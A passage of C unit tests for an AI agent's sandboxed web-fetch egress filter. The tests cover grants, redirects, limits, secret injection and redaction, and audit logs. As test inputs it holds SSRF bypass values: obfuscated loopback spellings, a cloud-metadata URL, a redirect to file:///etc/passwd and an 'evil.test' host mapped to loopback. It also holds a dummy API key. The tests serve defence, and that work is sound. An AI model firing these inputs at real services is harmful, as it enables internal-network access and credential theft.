/*
 * Unit tests for src/sandbox/egress.c against a real HTTP server on
 * loopback ($BUILD/tests/httpd, tests/support/httpd.c) and a real audit
 * log in a temporary folder.
 *
 * "Nothing reached the server" is checked with httpd's /count route: it
 * answers the number of connections accepted before it, so a denied
 * request between two /count calls must leave the second one exactly one
 * higher than the first.
 */
#include "test.h"

#include <dlfcn.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "sandbox/audit.h"
#include "sandbox/egress.h"
#include "support/server.h"

/* ------------------------------------------------------------ the server */

/* httpd on 127.0.0.1, or on bind_addr when given. */
static ba_test_server start_httpd(const char *bind_addr)
{
	const char *args[] = {"--bind", bind_addr, NULL};

	return ba_test_server_start("httpd", bind_addr ? args : NULL);
}

/* Connections the server accepted so far (not counting this query). */
static long server_count(const ba_test_server *h)
{
	static const char req[] = "GET /count HTTP/1.0\r\n\r\n";
	char *answer = ba_test_http_exchange(h->port, req, sizeof(req) - 1, NULL, NULL);
	const char *body = strstr(answer, "\r\n\r\n");
	long n;

	CHECK(body != NULL);
	n = strtol(body + 4, NULL, 10);
	free(answer);
	return n;
}

/* ------------------------------------------------------ the environment */

struct env {
	ba_capset *caps;
	ba_secrets *secrets;
	ba_audit *audit;
	char dir[64];
	char log[128];
	ba_egress_static_host hosts[4];
	ba_egress_config cfg;
	ba_egress_response resp;
	char reason[4096];
};

static void require_libcurl(void)
{
	void *h = dlopen("libcurl.so.4", RTLD_NOW | RTLD_LOCAL);
	if (!h)
		TEST_SKIP("libcurl.so.4 is not installed (apt-get install libcurl4)");
	dlclose(h);
}

static struct env *env_new(void)
{
	struct env *e = calloc(1, sizeof(*e));
	char err[512];

	require_libcurl();
	CHECK(e != NULL);
	e->caps = ba_capset_new();
	e->secrets = ba_secrets_new();
	CHECK(e->caps && e->secrets);
	snprintf(e->dir, sizeof(e->dir), "/tmp/ba-egress-test-XXXXXX");
	CHECK(mkdtemp(e->dir) != NULL);
	snprintf(e->log, sizeof(e->log), "%s/audit.log", e->dir);
	e->audit = ba_audit_open(e->log, err, sizeof(err));
	if (!e->audit)
		ba_test_fail(__FILE__, __LINE__, "ba_audit_open: %s", err);
	e->cfg.tool_name = "web_fetch";
	e->cfg.caps = e->caps;
	e->cfg.secrets = e->secrets;
	e->cfg.audit = e->audit;
	e->cfg.static_hosts = e->hosts;
	e->cfg.timeout_ns = 10ull * 1000000000ull;
	return e;
}

static void env_free(struct env *e)
{
	char path[256];

	ba_egress_response_release(&e->resp);
	ba_audit_close(e->audit);
	snprintf(path, sizeof(path), "%s.head", e->log);
	unlink(path);
	unlink(e->log);
	rmdir(e->dir);
	ba_secrets_free(e->secrets);
	ba_capset_free(e->caps);
	free(e);
}

static void grant(struct env *e, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void grant(struct env *e, const char *fmt, ...)
{
	char text[1024], err[1024];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(text, sizeof(text), fmt, ap);
	va_end(ap);
	if (ba_capset_add(e->caps, text, err, sizeof(err)))
		ba_test_fail(__FILE__, __LINE__, "grant %s: %s", text, err);
}

static void add_secret(struct env *e, const char *name, const char *value, const char *header,
                       const char *dest)
{
	char err[1024];
	const char *dests[1] = {dest};

	if (ba_secrets_add(e->secrets, name, value, strlen(value), header, dests, 1, err,
	                   sizeof(err)))
		ba_test_fail(__FILE__, __LINE__, "secret %s: %s", name, err);
}

/* One request through a fresh egress handle; resp and reason stay in e. */
static ba_egress_result fetch_full(struct env *e, const char *method, const char *url,
                                   const char *headers, const void *body, size_t body_len)
{
	ba_egress *eg = ba_egress_new(&e->cfg);
	ba_egress_request req = {
	        .method = method,
	        .url = url,
	        .headers = headers,
	        .headers_len = headers ? strlen(headers) : 0,
	        .body = body,
	        .body_len = body_len,
	};
	ba_egress_result r;

	CHECK(eg != NULL);
	ba_egress_response_release(&e->resp);
	r = ba_egress_fetch(eg, &req, &e->resp, e->reason, sizeof(e->reason));
	ba_egress_free(eg);
	return r;
}

static ba_egress_result fetch(struct env *e, const char *method, const char *url)
{
	return fetch_full(e, method, url, NULL, NULL, 0);
}

static const char *body(const struct env *e)
{
	return e->resp.body.data ? e->resp.body.data : "";
}

static void collect(const char *line, size_t len, void *user)
{
	ba_buf *b = user;
	CHECK(ba_buf_append(b, line, len) == 0);
	CHECK(ba_buf_append(b, "\n", 1) == 0);
}

/* The audit records so far, one JSON line each; caller frees. */
static char *audit_lines(struct env *e, const char *decision)
{
	ba_buf b;
	ba_audit_filter filter;
	char err[512];

	memset(&filter, 0, sizeof(filter));
	filter.decision = decision;
	ba_buf_init(&b, 1 << 24);
	if (ba_audit_list(e->log, &filter, collect, &b, err, sizeof(err)) != 0)
		ba_test_fail(__FILE__, __LINE__, "ba_audit_list: %s", err);
	return ba_buf_detach(&b, NULL);
}

static size_t count_lines(const char *text)
{
	size_t n = 0;
	for (const char *p = text; *p; p++)
		n += *p == '\n';
	return n;
}

static char *url_encode(const char *s)
{
	ba_buf b;
	ba_buf_init(&b, 1 << 16);
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
		    c == '-' || c == '_' || c == '.')
			CHECK(ba_buf_append(&b, s, 1) == 0);
		else
			CHECK(ba_buf_printf(&b, "%%%02X", c) == 0);
	}
	return ba_buf_detach(&b, NULL);
}

#define URL(buf, fmt, ...) snprintf((buf), sizeof(buf), fmt, __VA_ARGS__)

/* ---------------------------------------------------------------- basics */

TEST(literal_grant_reaches_loopback)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	char *allows;

	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 200);
	CHECK_EQ_STR(body(e), "hello from httpd\n");
	CHECK_EQ_STR(e->resp.final_url, url);
	CHECK_CONTAINS(e->resp.headers.data, "content-type: text/plain");
	CHECK_CONTAINS(e->resp.headers.data, "content-length: 17\n");
	CHECK(strstr(e->resp.headers.data, "HTTP/") == NULL);

	allows = audit_lines(e, "allow");
	CHECK_EQ_UINT(count_lines(allows), 1);
	CHECK_CONTAINS(allows, "\"tool\":\"web_fetch\"");
	CHECK_CONTAINS(allows, "\"capability\":\"network\"");
	CHECK_CONTAINS(allows, url);
	CHECK_CONTAINS(allows, "\"address\":\"127.0.0.1\"");
	CHECK_CONTAINS(allows, "granted by network:http://127.0.0.1:");
	free(allows);

	/* HEAD: headers, no body */
	CHECK_EQ_INT(fetch(e, "HEAD", url), BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 200);
	CHECK_EQ_UINT(e->resp.body.len, 0);
	CHECK_CONTAINS(e->resp.headers.data, "content-length: 17");

	/* Other statuses are responses, not errors. */
	URL(url, "http://127.0.0.1:%u/status/404", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 404);
	env_free(e);
}

TEST(post_sends_body_and_headers)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	static const char payload[] = "a=1&b=two";

	grant(e, "network:http://127.0.0.1:%u/echo", h.port);
	URL(url, "http://127.0.0.1:%u/echo?x=1", h.port);
	CHECK_EQ_INT(fetch_full(e, "POST", url, "X-Test: yes\r\nAccept: application/json\nX-Empty:",
	                        payload, strlen(payload)),
	             BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 200);
	CHECK_CONTAINS(body(e), "\"method\":\"POST\"");
	CHECK_CONTAINS(body(e), "\"path\":\"/echo?x=1\"");
	CHECK_CONTAINS(body(e), "\"x-test\":\"yes\"");
	CHECK_CONTAINS(body(e), "\"accept\":\"application/json\"");
	CHECK_CONTAINS(body(e), "\"x-empty\":\"\"");
	CHECK_CONTAINS(body(e), "\"content-length\":\"9\"");
	CHECK_CONTAINS(body(e), "\"body\":\"a=1&b=two\"");
	CHECK_CONTAINS(body(e), "\"user-agent\":\"boxagent/");
	CHECK(strstr(body(e), "expect") == NULL);

	/* Other methods, with and without a body; a binary body. */
	CHECK_EQ_INT(fetch_full(e, "PUT", url, NULL, "x\0y", 3), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"method\":\"PUT\"");
	CHECK_CONTAINS(body(e), "\"body\":\"x\\u0000y\"");
	CHECK_EQ_INT(fetch(e, "DELETE", url), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"method\":\"DELETE\"");
	CHECK_EQ_INT(fetch(e, "POST", url), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"content-length\":\"0\"");

	/* The path prefix of the grant holds. */
	URL(url, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	env_free(e);
}

TEST(not_granted_is_denied_and_recorded)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256], expect[256];
	long before = server_count(&h);
	char *denies;

	URL(url, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	URL(expect, "network:http://127.0.0.1:%u/text is not granted to web_fetch", h.port);
	CHECK_EQ_STR(e->reason, expect);

	/* A grant for other methods says so. */
	grant(e, "network:GET,HEAD:http://127.0.0.1:%u", h.port);
	CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, "x", 1), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "but not for method POST");
	CHECK_EQ_INT(server_count(&h), before + 1);

	denies = audit_lines(e, "deny");
	CHECK_EQ_UINT(count_lines(denies), 2);
	CHECK_CONTAINS(denies, "is not granted to web_fetch");
	CHECK_CONTAINS(denies, "\"capability\":\"network\"");
	free(denies);
	env_free(e);
}

/* ------------------------------------------------------ address policy */

TEST(wildcard_host_cannot_reach_loopback)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	long before = server_count(&h);
	char *denies;

	grant(e, "network:http://*:%u", h.port);
	grant(e, "network:http://*:*");
	URL(url, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "address 127.0.0.1 is loopback");
	CHECK_CONTAINS(e->reason, "only a grant naming the literal address");
	CHECK_CONTAINS(e->reason, "network:http://127.0.0.1:");
	CHECK_EQ_INT(server_count(&h), before + 1);
	denies = audit_lines(e, "deny");
	CHECK_CONTAINS(denies, "\"address\":\"127.0.0.1\"");
	CHECK_CONTAINS(denies, "loopback");
	free(denies);
	env_free(e);
}

TEST(other_spellings_of_loopback_are_denied)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	const char *hosts[] = {"2130706433", "0177.0.0.1", "0x7f.1",
	                       "0x7f000001", "127.1",      "127.0.0.2"};
	long before = server_count(&h);

	grant(e, "network:http://*:*");
	for (size_t i = 0; i < sizeof(hosts) / sizeof(hosts[0]); i++) {
		char url[256];
		URL(url, "http://%s:%u/text", hosts[i], h.port);
		if (fetch(e, "GET", url) != BA_EGRESS_DENIED)
			ba_test_fail(__FILE__, __LINE__, "%s was not denied: %s", url, e->reason);
		CHECK_CONTAINS(e->reason, "loopback");
	}
	CHECK_EQ_INT(server_count(&h), before + 1);
	env_free(e);
}

TEST(ipv6_loopback_forms_are_denied_without_a_literal_grant)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	long before = server_count(&h);

	grant(e, "network:http://*:*");
	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://[::1]:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "loopback");
	URL(url, "http://[::ffff:127.0.0.1]:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "loopback");
	URL(url, "http://[0:0:0:0:0:ffff:7f00:1]:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_EQ_INT(server_count(&h), before + 1);
	env_free(e);
}

TEST(ipv6_literal_grant_reaches_ipv6_loopback)
{
	ba_test_server h;
	struct env *e;
	char url[256];
	int fd = socket(AF_INET6, SOCK_STREAM, 0);
	struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_addr = IN6ADDR_LOOPBACK_INIT};

	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0)
		TEST_SKIP("no IPv6 loopback here");
	close(fd);
	h = start_httpd("::1");
	e = env_new();
	grant(e, "network:http://[::1]:%u", h.port);
	URL(url, "http://[::1]:%u/json", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_STR(body(e), "{\"ok\":true,\"items\":[1,2,3]}");
	env_free(e);
}

TEST(metadata_and_unspecified_addresses_are_denied)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	long before = server_count(&h);
	struct timespec t0, t1;

	grant(e, "network:http://*:*");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	CHECK_EQ_INT(fetch(e, "GET", "http://169.254.169.254/latest/meta-data/"), BA_EGRESS_DENIED);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	CHECK_CONTAINS(e->reason, "169.254.169.254 is link-local");
	/* Denied before any connection: no connect timeout was waited out. */
	CHECK(t1.tv_sec - t0.tv_sec < 2);

	/* 0.0.0.0 connects to this host on Linux; it never gets that far,
	 * even with a grant naming it literally. */
	URL(url, "http://0.0.0.0:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "unspecified");
	grant(e, "network:http://0.0.0.0:%u", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	URL(url, "http://[::]:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_EQ_INT(server_count(&h), before + 1);

	/* Private ranges and the broadcast address too. */
	CHECK_EQ_INT(fetch(e, "GET", "http://10.0.0.5/"), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "private");
	CHECK_EQ_INT(fetch(e, "GET", "http://255.255.255.255/"), BA_EGRESS_DENIED);
	env_free(e);
}

TEST(static_host_mapping_to_loopback_is_denied)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	long before = server_count(&h);
	char *denies;

	snprintf(e->hosts[0].host, sizeof(e->hosts[0].host), "evil.test");
	snprintf(e->hosts[0].address, sizeof(e->hosts[0].address), "127.0.0.1");
	e->cfg.static_host_count = 1;
	grant(e, "network:http://evil.test:%u", h.port);
	URL(url, "http://EVIL.test.:%u/text", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason,
	               "address 127.0.0.1 of evil.test is loopback; only a grant naming the "
	               "literal address may reach it");
	CHECK_EQ_INT(server_count(&h), before + 1);
	denies = audit_lines(e, "deny");
	CHECK_CONTAINS(denies, "\"address\":\"127.0.0.1\"");
	free(denies);

	/* A mapping to something that is not an address fails cleanly. */
	snprintf(e->hosts[0].address, sizeof(e->hosts[0].address), "not-an-ip");
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_FAILED);
	CHECK_CONTAINS(e->reason, "not an IP address");
	env_free(e);
}

TEST(localhost_grant_reaches_localhost)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];

	URL(url, "http://localhost:%u/text", h.port);
	grant(e, "network:http://*:%u", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "of localhost is loopback");

	grant(e, "network:http://localhost:%u", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_STR(body(e), "hello from httpd\n");
	env_free(e);
}

/* ------------------------------------------------------------- redirects */

TEST(redirect_to_an_ungranted_port_is_denied_and_recorded)
{
	ba_test_server a = start_httpd(NULL), b = start_httpd(NULL);
	struct env *e = env_new();
	char url[512], target[256];
	char *enc, *allows, *denies;
	long before = server_count(&b);

	grant(e, "network:http://127.0.0.1:%u", a.port);
	URL(target, "http://127.0.0.1:%u/text", b.port);
	enc = url_encode(target);
	URL(url, "http://127.0.0.1:%u/redirect?to=%s", a.port, enc);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	{
		char expect[256];
		URL(expect, "network:http://127.0.0.1:%u/text is not granted to web_fetch", b.port);
		CHECK_EQ_STR(e->reason, expect);
	}
	CHECK_EQ_INT(server_count(&b), before + 1);
	allows = audit_lines(e, "allow");
	denies = audit_lines(e, "deny");
	CHECK_EQ_UINT(count_lines(allows), 1);
	CHECK_EQ_UINT(count_lines(denies), 1);
	CHECK_CONTAINS(allows, "/redirect?to=");
	CHECK_CONTAINS(denies, target);
	free(allows);
	free(denies);
	free(enc);

	/* A redirect to another scheme is refused, not attempted. */
	URL(url, "http://127.0.0.1:%u/redirect?to=file%%3A%%2F%%2F%%2Fetc%%2Fpasswd", a.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "file:///etc/passwd");
	env_free(e);
}

TEST(redirect_within_the_grant_is_followed)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256], final[256];
	char *allows;

	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/redirect?to=%%2Ftext&code=301", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 200);
	CHECK_EQ_STR(body(e), "hello from httpd\n");
	URL(final, "http://127.0.0.1:%u/text", h.port);
	CHECK_EQ_STR(e->resp.final_url, final);
	/* The headers are the final hop's, not the redirect's. */
	CHECK(strstr(e->resp.headers.data, "location:") == NULL);
	allows = audit_lines(e, "allow");
	CHECK_EQ_UINT(count_lines(allows), 2);
	CHECK_CONTAINS(allows, "(redirect)");
	free(allows);

	/* A relative reference without a slash resolves against the path. */
	URL(url, "http://127.0.0.1:%u/redirect?to=json", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_STR(body(e), "{\"ok\":true,\"items\":[1,2,3]}");

	/* A 3xx that is not a redirect (300, 304), or lacks Location, is the
	 * response. */
	URL(url, "http://127.0.0.1:%u/status/300", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 300);
	URL(url, "http://127.0.0.1:%u/status/302", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_INT(e->resp.status, 302);
	env_free(e);
}

TEST(redirect_methods_307_keeps_and_303_drops_the_body)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	static const char payload[] = "{\"k\":\"v\"}";

	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/redirect?to=%%2Fecho&code=307", h.port);
	CHECK_EQ_INT(fetch_full(e, "POST", url, "Content-Type: application/json", payload,
	                        strlen(payload)),
	             BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"method\":\"POST\"");
	CHECK_CONTAINS(body(e), "\"body\":\"{\\\"k\\\":\\\"v\\\"}\"");
	URL(url, "http://127.0.0.1:%u/redirect?to=%%2Fecho&code=308", h.port);
	CHECK_EQ_INT(fetch_full(e, "PUT", url, NULL, payload, strlen(payload)), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"method\":\"PUT\"");
	CHECK_CONTAINS(body(e), "\"body\":\"{");

	for (int code = 301; code <= 303; code++) {
		URL(url, "http://127.0.0.1:%u/redirect?to=%%2Fecho&code=%d", h.port, code);
		CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, payload, strlen(payload)),
		             BA_EGRESS_OK);
		CHECK_CONTAINS(body(e), "\"method\":\"GET\"");
		CHECK_CONTAINS(body(e), "\"body\":\"\"");
		CHECK(strstr(body(e), "content-length") == NULL);
	}
	env_free(e);
}

TEST(too_many_redirects_fail)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[1024], *r1, *r2, *r3;
	char hop[512];

	/* /redirect -> /redirect -> /redirect -> /text: three redirects. */
	r1 = url_encode("/text");
	URL(hop, "/redirect?to=%s", r1);
	r2 = url_encode(hop);
	URL(hop, "/redirect?to=%s", r2);
	r3 = url_encode(hop);
	URL(url, "http://127.0.0.1:%u/redirect?to=%s", h.port, r3);
	grant(e, "network:http://127.0.0.1:%u", h.port);

	e->cfg.max_redirects = 2;
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_FAILED);
	CHECK_CONTAINS(e->reason, "more than 2 redirects");
	e->cfg.max_redirects = 3;
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_STR(body(e), "hello from httpd\n");
	free(r1);
	free(r2);
	free(r3);
	env_free(e);
}

/* ---------------------------------------------------------------- limits */

TEST(response_over_the_cap_is_too_large)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];

	grant(e, "network:http://127.0.0.1:%u", h.port);
	e->cfg.max_response_bytes = 10000;
	URL(url, "http://127.0.0.1:%u/big?n=10000", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_UINT(e->resp.body.len, 10000);
	URL(url, "http://127.0.0.1:%u/big?n=10001", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_TOO_LARGE);
	CHECK_CONTAINS(e->reason, "larger than the limit of 10000 bytes");
	/* Without a Content-Length the cap is found while receiving. */
	URL(url, "http://127.0.0.1:%u/big?n=10000&chunked=1", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_UINT(e->resp.body.len, 10000);
	URL(url, "http://127.0.0.1:%u/big?n=200000&chunked=1", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_TOO_LARGE);
	CHECK(e->resp.body.len <= 10000);

	/* The request body has a cap of its own. */
	e->cfg.max_request_bytes = 100;
	{
		char big[101];
		memset(big, 'b', sizeof(big));
		URL(url, "http://127.0.0.1:%u/echo", h.port);
		CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, big, 101), BA_EGRESS_TOO_LARGE);
		CHECK_EQ_INT(fetch_full(e, "POST", url, NULL, big, 100), BA_EGRESS_OK);
	}
	env_free(e);
}

TEST_TIMEOUT(slow_response_times_out, 30)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[256];
	struct timespec t0, t1;
	double took;

	grant(e, "network:http://127.0.0.1:%u", h.port);
	URL(url, "http://127.0.0.1:%u/slow?ms=5000", h.port);
	e->cfg.timeout_ns = 300ull * 1000000ull;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_TIMEOUT);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	took = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	CHECK(took >= 0.25 && took < 3);
	CHECK_CONTAINS(e->reason, "timed out");

	/* The tool's deadline wins over a longer per-request timeout. */
	e->cfg.timeout_ns = 20ull * 1000000000ull;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	e->cfg.deadline_ns =
	        (uint64_t)t0.tv_sec * 1000000000ull + (uint64_t)t0.tv_nsec + 300ull * 1000000ull;
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_TIMEOUT);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	CHECK(t1.tv_sec - t0.tv_sec < 3);
	/* A deadline already past: refused at once. */
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_TIMEOUT);
	CHECK_CONTAINS(e->reason, "deadline");

	/* Fast enough is fine. */
	e->cfg.deadline_ns = 0;
	URL(url, "http://127.0.0.1:%u/slow?ms=50", h.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_EQ_STR(body(e), "slept 50 ms\n");
	env_free(e);
}

/* --------------------------------------------------------------- secrets */

static const char key[] = "sk-live-7Hq2xZ0pLm4";

TEST(secret_is_injected_only_where_it_is_bound)
{
	ba_test_server a = start_httpd(NULL), b = start_httpd(NULL);
	struct env *e = env_new();
	char url[512], dest[128], target[256];
	char *enc, *allows;

	URL(dest, "http://127.0.0.1:%u", a.port);
	add_secret(e, "api_key", key, "Authorization: Bearer {}", dest);
	grant(e, "network:http://127.0.0.1:%u", a.port);
	grant(e, "network:http://127.0.0.1:%u", b.port);

	/* Bound but not granted: not injected. */
	URL(url, "http://127.0.0.1:%u/echo", a.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK(strstr(body(e), "authorization") == NULL);

	grant(e, "secret:api_key");
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	/* Injected - and the echo of it redacted: the tool never sees it. */
	CHECK_CONTAINS(body(e), "\"authorization\":\"Bearer [secret:api_key]\"");
	CHECK(strstr(body(e), key) == NULL);
	/* A server reflecting it in another encoding: the response is
	 * withheld entirely, and that is recorded. */
	URL(url, "http://127.0.0.1:%u/echo?hex=1", a.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "contains secret:api_key (hex)");
	CHECK_EQ_UINT(e->resp.body.len, 0);
	URL(url, "http://127.0.0.1:%u/echo", a.port);
	/* not to the other server */
	URL(url, "http://127.0.0.1:%u/echo", b.port);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK(strstr(body(e), "authorization") == NULL);

	/* and not across a redirect from the bound origin to another one */
	URL(target, "http://127.0.0.1:%u/echo", b.port);
	enc = url_encode(target);
	URL(url, "http://127.0.0.1:%u/redirect?to=%s&code=307", a.port, enc);
	CHECK_EQ_INT(fetch(e, "GET", url), BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"method\":\"GET\"");
	CHECK(strstr(body(e), "authorization") == NULL);
	CHECK(strstr(body(e), key) == NULL);
	free(enc);

	/* The audit log names the secret, never its value. */
	allows = audit_lines(e, "allow");
	CHECK_CONTAINS(allows, "injected secret:api_key");
	free(allows);
	{
		char *all = audit_lines(e, NULL);
		CHECK(strstr(all, key) == NULL);
		free(all);
	}
	env_free(e);
}

TEST(tool_may_not_set_or_override_a_secret_header)
{
	ba_test_server a = start_httpd(NULL), b = start_httpd(NULL);
	struct env *e = env_new();
	char url[512], dest[128], target[256];
	char *enc;
	long before = server_count(&a);

	URL(dest, "http://127.0.0.1:%u", a.port);
	add_secret(e, "api_key", key, "Authorization: Bearer {}", dest);
	grant(e, "network:http://127.0.0.1:%u", a.port);
	grant(e, "network:http://127.0.0.1:%u", b.port);
	grant(e, "secret:api_key");

	URL(url, "http://127.0.0.1:%u/echo", a.port);
	CHECK_EQ_INT(fetch_full(e, "GET", url, "authorization: Bearer mine", NULL, 0),
	             BA_EGRESS_DENIED);
	CHECK_CONTAINS(e->reason, "secret:api_key");
	CHECK_EQ_INT(server_count(&a), before + 1);

	/* Where no secret is bound the tool's own Authorization goes out... */
	URL(url, "http://127.0.0.1:%u/echo", b.port);
	CHECK_EQ_INT(fetch_full(e, "GET", url, "Authorization: Bearer mine", NULL, 0),
	             BA_EGRESS_OK);
	CHECK_CONTAINS(body(e), "\"authorization\":\"Bearer mine\"");
	/* ...but it does not follow a redirect to another origin. */
	URL(target, "http://127.0.0.1:%u/echo", a.port);
	enc = url_encode(target);
	URL(url, "http://127.0.0.1:%u/redirect?to=%s", b.port, enc);
	CHECK_EQ_INT(fetch_full(e, "GET", url, "Authorization: Bearer mine\nX-Keep: 1", NULL, 0),
	             BA_EGRESS_OK);
	CHECK(strstr(body(e), "Bearer mine") == NULL);
	CHECK_CONTAINS(body(e), "\"x-keep\":\"1\"");
	/* (there the host injects its own secret, as the binding allows) */
	CHECK_CONTAINS(body(e), "\"authorization\":\"Bearer [secret:api_key]\"");
	free(enc);
	env_free(e);
}

static void b64(const char *in, char *out)
{
	static const char abc[] =
	        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in), o = 0, i = 0;
	const unsigned char *p = (const unsigned char *)in;

	for (; i + 2 < n; i += 3) {
		unsigned v = (unsigned)p[i] << 16 | (unsigned)p[i + 1] << 8 | p[i + 2];
		out[o++] = abc[v >> 18 & 63];
		out[o++] = abc[v >> 12 & 63];
		out[o++] = abc[v >> 6 & 63];
		out[o++] = abc[v & 63];
	}
	if (n - i) {
		unsigned v = (unsigned)p[i] << 16 | (n - i == 2 ? (unsigned)p[i + 1] << 8 : 0);
		out[o++] = abc[v >> 18 & 63];
		out[o++] = abc[v >> 12 & 63];
		out[o++] = n - i == 2 ? abc[v >> 6 & 63] : '=';
		out[o++] = '=';
	}
	out[o] = '\0';
}

TEST(secret_sent_by_the_tool_is_denied_in_every_encoding)
{
	ba_test_server h = start_httpd(NULL);
	struct env *e = env_new();
	char url[512], dest[128], buf[512], enc[256];
